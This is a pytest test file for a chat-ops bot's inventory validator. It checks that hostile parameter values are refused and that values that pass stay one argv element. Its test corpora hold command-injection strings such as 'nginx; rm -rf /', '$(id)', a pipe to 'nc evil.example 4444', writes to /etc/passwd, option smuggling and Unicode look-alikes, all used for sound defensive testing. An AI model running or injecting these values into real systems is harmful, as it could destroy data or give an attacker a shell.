"""Hostile values in every parameter position are refused before anything could run.

Each position is a way a chat (or alert) value reaches the inventory: a service name, a host
or group selector, an environment, an action, a recipe or app name, a recipe parameter name or
value, a deploy version. Every value of the corpus must be refused there with
:class:`InvalidParameter` naming the position, the value (escaped) and the rule it broke. Values
that pass validation stay exactly one argv element, however many shell metacharacters they
hold, so no later quoting mistake can split them.
"""

import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from bot.errors import Refusal
from bot.inventory import (
    MAX_VALUE_LENGTH,
    InvalidParameter,
    Inventory,
    NotAllowed,
    UnknownTarget,
)

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "inventory.yaml"

# (id, value, the rule that refuses it everywhere: empty | long | ascii | dash | shape).
# "shape" is the position's own pattern or choices; "dash" falls under "shape" where the
# position takes choices (a listed choice is the only way to allow a leading '-').
CORPUS = [
    ("semicolon", "nginx; rm -rf /", "shape"),
    ("command-substitution", "$(id)", "shape"),
    ("backticks", "`id`", "shape"),
    ("pipe", "nginx|nc evil.example 4444", "shape"),
    ("and", "nginx&&reboot", "shape"),
    ("redirect", "nginx>/etc/passwd", "shape"),
    ("variable", "${IFS}", "shape"),
    ("quote", "nginx'", "shape"),
    ("glob", "*", "shape"),
    ("path-traversal", "../..", "shape"),
    ("tilde", "~root", "shape"),
    ("url-encoded", "%2e%2e", "shape"),
    ("space", "nginx api", "shape"),
    ("newline", "nginx\nreboot", "ascii"),
    ("carriage-return", "nginx\rreboot", "ascii"),
    ("nul", "nginx\x00", "ascii"),
    ("tab", "nginx\treboot", "ascii"),
    ("escape-sequence", "\x1b[2Jnginx", "ascii"),
    ("delete", "nginx\x7f", "ascii"),
    ("cyrillic-ha", "ngin\u0445", "ascii"),
    ("cyrillic-a", "\u0430pi", "ascii"),
    ("fullwidth", "\uff4e\uff47\uff49\uff4e\uff58", "ascii"),
    ("zero-width-space", "ng\u200binx", "ascii"),
    ("right-to-left-override", "nginx\u202e", "ascii"),
    ("non-breaking-space", "nginx\u00a0", "ascii"),
    ("long-option", "--force", "dash"),
    ("option-with-value", "--output=/etc/passwd", "dash"),
    ("short-options", "-rf", "dash"),
    ("lone-dash", "-", "dash"),
    ("over-long", "a" * (MAX_VALUE_LENGTH + 1), "long"),
    ("huge", "nginx;" * 2000, "long"),
    ("empty", "", "empty"),
]

GENERIC = {
    "empty": "must not be empty",
    "long": f"must be at most {MAX_VALUE_LENGTH} characters",
    "ascii": "must be printable ASCII (character ",
    "dash": "must not start with '-' (it would be read as an option)",
}

NAME = "(1-63 letters, digits, '.', '_' or '-', starting with a letter or digit)"


@pytest.fixture(scope="module")
def inv() -> Inventory:
    return Inventory.load(EXAMPLE)


# (id, how the value reaches the inventory, parameter named in the error, shape rule, choices?)
Position = tuple[str, Callable[[Inventory, str], object], str, str, bool]
POSITIONS: list[Position] = [
    (
        "service",
        lambda inv, v: inv.service_command("prod-web1", "restart", v),
        "service",
        "must be a systemd unit name",
        False,
    ),
    (
        "service-host",
        lambda inv, v: inv.service_command(v, "restart", "nginx"),
        "host",
        f"must be a host name {NAME}",
        False,
    ),
    (
        "service-action",
        lambda inv, v: inv.service_command("prod-web1", v, "nginx"),
        "action",
        "must be one of: status, restart, start, stop",
        True,
    ),
    (
        "selector",
        lambda inv, v: inv.resolve(v, "production"),
        "host or group",
        f"must be a host or group name {NAME}",
        False,
    ),
    (
        "services-selector",
        lambda inv, v: inv.services(v),
        "host or group",
        f"must be a host or group name {NAME}",
        False,
    ),
    (
        "selector-environment",
        lambda inv, v: inv.resolve("web", v),
        "environment",
        f"must be an environment name {NAME}",
        False,
    ),
    (
        "hosts-environment",
        lambda inv, v: inv.hosts(v),
        "environment",
        f"must be an environment name {NAME}",
        False,
    ),
    (
        "recipe",
        lambda inv, v: inv.render_recipe(v),
        "recipe",
        "must be the name of a configured recipe",
        False,
    ),
    (
        "recipe-pattern-param",
        lambda inv, v: inv.render_recipe("tail-log", {"service": "api", "lines": v}),
        "lines",
        "must match ^[0-9]{1,4}$",
        False,
    ),
    (
        "recipe-choices-param",
        lambda inv, v: inv.render_recipe("tail-log", {"service": v}),
        "service",
        "must be one of: nginx, api, worker",
        True,
    ),
    (
        "deploy-app",
        lambda inv, v: inv.render_deploy(v, "production", {"version": "1.2.3"}),
        "app",
        "must be the name of a configured app",
        False,
    ),
    (
        "deploy-version",
        lambda inv, v: inv.render_deploy("api", "production", {"version": v}),
        "version",
        r"must match ^[0-9]+\.[0-9]+\.[0-9]+$",
        False,
    ),
    (
        "deploy-environment",
        lambda inv, v: inv.render_deploy("api", v, {"version": "1.2.3"}),
        "environment",
        f"must be an environment name {NAME}",
        False,
    ),
]


def expected_reason(rule: str, shape: str, choices: bool) -> str:
    if rule == "shape" or (rule == "dash" and choices):
        return shape
    return GENERIC[rule]


def shown(value: str) -> str:
    """How the error shows the value: escaped, and cut after 40 characters."""
    if len(value) <= 40:
        return ascii(value)
    return f"{ascii(value[:40])[:-1]}...' ({len(value)} characters)"


@pytest.mark.parametrize(
    ("call", "parameter", "shape", "choices"),
    [position[1:] for position in POSITIONS],
    ids=[position[0] for position in POSITIONS],
)
@pytest.mark.parametrize(("value", "rule"), [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS])
def test_hostile_value_is_refused(inv, call, parameter, shape, choices, value, rule):
    with pytest.raises(InvalidParameter) as err:
        call(inv, value)
    message = str(err.value)
    assert message.startswith(f"invalid {parameter} {shown(value)}")
    assert expected_reason(rule, shape, choices) in message
    assert (err.value.parameter, err.value.value) == (parameter, value)
    # The message goes to chat and the audit log as it is: one line of printable ASCII.
    assert message.isascii() and message.isprintable()
    assert len(message) < 300


@pytest.mark.parametrize(("value", "rule"), [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS])
def test_hostile_parameter_name_is_refused(inv, value, rule):
    with pytest.raises(InvalidParameter) as err:
        inv.render_recipe("tail-log", {"service": "api", value: "5"})
    message = str(err.value)
    assert message.startswith(f"invalid parameter {shown(value)}: recipe tail-log has no such")
    assert message.isascii() and message.isprintable()


def test_look_alikes_are_shown_escaped(inv):
    with pytest.raises(InvalidParameter) as err:
        inv.service_command("prod-web1", "restart", "ngin\u0445")
    assert str(err.value) == (
        r"invalid service 'ngin\u0445': must be printable ASCII (character 5 is '\u0445')"
    )


def test_non_text_values_are_refused(inv):
    with pytest.raises(InvalidParameter, match=r"^invalid version 123: must be text$"):
        inv.render_deploy("api", "production", {"version": 123})  # type: ignore[dict-item]
    with pytest.raises(InvalidParameter, match=r"^invalid service \['nginx'\]: must be text$"):
        inv.service_command("prod-web1", "restart", ["nginx"])  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("call", "error", "message"),
    [
        (
            lambda inv: inv.service_command("prod-web1", "restart", "sshd"),
            NotAllowed,
            "service 'sshd' is not managed on prod-web1 (its services: nginx, api)",
        ),
        (
            lambda inv: inv.service_command("prod-db1", "stop", "nginx"),
            NotAllowed,
            "service 'nginx' is not managed on prod-db1 (its services: postgresql)",
        ),
        (
            lambda inv: inv.service_command("localhost", "restart", "nginx"),
            UnknownTarget,
            "unknown host 'localhost'",
        ),
        (
            lambda inv: inv.resolve("all", "production"),
            UnknownTarget,
            "unknown host or group 'all' in production",
        ),
        (
            lambda inv: inv.render_recipe("sh"),
            NotAllowed,
            "no recipe named 'sh'",
        ),
        (
            lambda inv: inv.render_deploy("api", "dev", {"version": "1.2.3"}),
            UnknownTarget,
            "unknown environment 'dev'",
        ),
    ],
    ids=["service-elsewhere", "service-not-here", "host", "group", "recipe", "environment"],
)
def test_well_formed_names_outside_the_allow_list_are_refused(inv, call, error, message):
    with pytest.raises(error) as err:
        call(inv)
    assert isinstance(err.value, Refusal)
    assert str(err.value).startswith(message)


# --- values that pass stay one argv element -----------------------------------------------------
PERMISSIVE = r"^[ -~]{1,128}$"  # any printable ASCII: the loosest pattern an author can write


@pytest.fixture(scope="module")
def permissive() -> Inventory:
    return Inventory.from_mapping(
        {
            "environments": {"lab": {"hosts": {"h1": {"address": "127.0.0.1"}}}},
            "recipes": {
                "grep": {
                    "params": {"needle": {"pattern": PERMISSIVE}},
                    "steps": [
                        ["grep", "-F", "-e", "{needle}", "/var/log/syslog"],
                        ["grep", "--regexp={needle}", "/var/log/syslog"],
                    ],
                }
            },
            "deploys": {
                "app": {
                    "hosts": {"lab": "lab"},
                    "params": {"version": {"pattern": PERMISSIVE}},
                    "steps": [["install", "{version}", "--", "v{version}.tar"]],
                    "health_check": {"command": ["check", "{version}"]},
                    "rollback": [["undo", "{version}"]],
                }
            },
        }
    )


PASSING = [
    "nginx; rm -rf /",
    "$(id)",
    "`id`",
    "a | b && c > d",
    "'; echo pwned; '",
    '"quoted"',
    "*",
    "../..",
    "a b  c",
    "\\",
    "x" * MAX_VALUE_LENGTH,
]


@pytest.mark.parametrize("value", PASSING)
def test_a_passing_value_is_exactly_one_argv_element(permissive, value):
    grep = permissive.render_recipe("grep", {"needle": value})
    assert grep == [
        ["grep", "-F", "-e", value, "/var/log/syslog"],
        ["grep", f"--regexp={value}", "/var/log/syslog"],
    ]
    plan = permissive.render_deploy("app", "lab", {"version": value})
    assert plan.steps == [["install", value, "--", f"v{value}.tar"]]
    assert plan.health_check.argv == ["check", value]
    assert plan.rollback == [["undo", value]]
    # Quoted for the remote shell, the words come back unchanged and as many as before.
    for argv in [*grep, *plan.steps, plan.health_check.argv, *plan.rollback]:
        assert shlex.split(shlex.join(argv)) == argv


def test_even_the_loosest_pattern_keeps_the_base_rules(permissive):
    for value, reason in [
        ("-rf", "must not start with '-'"),
        ("a\nb", "must be printable ASCII"),
        ("x" * (MAX_VALUE_LENGTH + 1), "must be at most 128 characters"),
        ("", "must not be empty"),
    ]:
        with pytest.raises(InvalidParameter, match=reason):
            permissive.render_recipe("grep", {"needle": value})
